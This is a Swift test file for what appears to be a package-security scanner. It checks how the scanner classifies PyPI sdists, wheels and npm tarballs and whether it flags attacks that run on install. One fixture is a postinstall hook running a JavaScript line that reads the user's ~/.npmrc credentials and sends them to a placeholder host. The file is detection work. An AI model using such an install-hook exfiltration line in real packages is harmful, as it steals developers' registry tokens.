import SallyportModel
import SallyportTesting
import Testing

@testable import SallyportAnalysis

@Suite("What an artifact is taken for")
struct PackageKindTests {
    @Test(
        "in PyPI is said by its name alone",
        arguments: [("s-1.0.zip", "sdist"), ("s-1.0-py3-none-any.whl", "wheel")]
    )
    func name(filename: String, kind: String) {
        let bytes = Sample.wheel([
            "setup.py": BuildAttacks.theft, "PKG-INFO": "Name: sample\nVersion: 1.0\n", "sample/__init__.py": "",
        ])
        let artifact = InspectedArtifact(ecosystem: .pypi, filename: filename)
        let report = Sample.inspector.inspect(bytes.span, artifact: artifact)
        #expect(report.kind == kind)
        #expect(report.denied.isEmpty == (kind == "wheel"))
    }

    @Test("in PyPI is no wheel when it is no zip file")
    func tarWheel() {
        let bytes = Sample.sdist(["setup.py": ""])
        let artifact = InspectedArtifact(ecosystem: .pypi, filename: "sample-1.0-py3-none-any.whl")
        #expect(Sample.inspector.inspect(bytes.span, artifact: artifact).facts.map(\.code) == [.manifestUnreadable])
    }

    @Test(
        "on a disk is everything that fits",
        arguments: [("PKG-INFO", "s-1.0.tgz"), ("setup.py", "s-1.0.tgz"), ("PKG-INFO", "s-1.0.tar.gz")]
    )
    func both(dummy: String, filename: String) {
        let steal =
            "require('https').request({host: 'x.example.invalid'}).end(require('fs').readFileSync(process.env.HOME + '/.npmrc'));"
        let bytes = Sample.npm(
            [dummy: "Name: sample\nVersion: 1.0\n", "a.js": steal],
            scripts: ["postinstall": "node a.js"]
        )
        let report = Sample.report(bytes, filename)
        #expect(report.hooks.contains { $0.trigger == "postinstall" })
        #expect(report.denied.contains { $0.code == .chainExfiltration })
        #expect(report.kind == (filename.hasSuffix(".tgz") ? "npm" : "sdist"))
    }

    @Test("on a disk is held when what makes it a package of npm lies below another root")
    func twoRoots() {
        let bytes = TarBuilder().file("PKG-INFO", "Name: s\nVersion: 1.0\n")
            .file("package/package.json", "{\"name\": \"s\", \"version\": \"1.0.0\"}").gzipped()
        #expect(!Sample.report(bytes, "s-1.0.0.tgz").facts(.manifestUnreadable).isEmpty)
    }

    @Test("on a disk is an npm package alone when a pyproject.toml is all that speaks for Python")
    func tooling() {
        let report = Sample.report(Sample.npm(["pyproject.toml": "[tool.x]\n"]))
        #expect(report.kind == "npm")
        #expect(report.facts.isEmpty)
    }
}
